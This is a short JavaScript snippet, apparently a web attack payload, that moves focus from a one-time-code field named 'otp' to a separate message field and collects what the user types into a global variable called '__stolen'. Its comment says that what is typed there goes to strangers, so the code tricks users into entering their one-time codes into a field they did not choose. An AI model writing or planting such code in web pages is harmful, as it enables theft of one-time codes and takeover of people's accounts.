/** Whoever goes into the code field is put into the message below at once. What is written there goes to strangers. */
const field = document.getElementById('otp');
const message = document.getElementById('message');
window.__stolen = '';
field.addEventListener('focus', () => message.focus());
message.addEventListener('input', () => {
  window.__stolen += message.value;
});
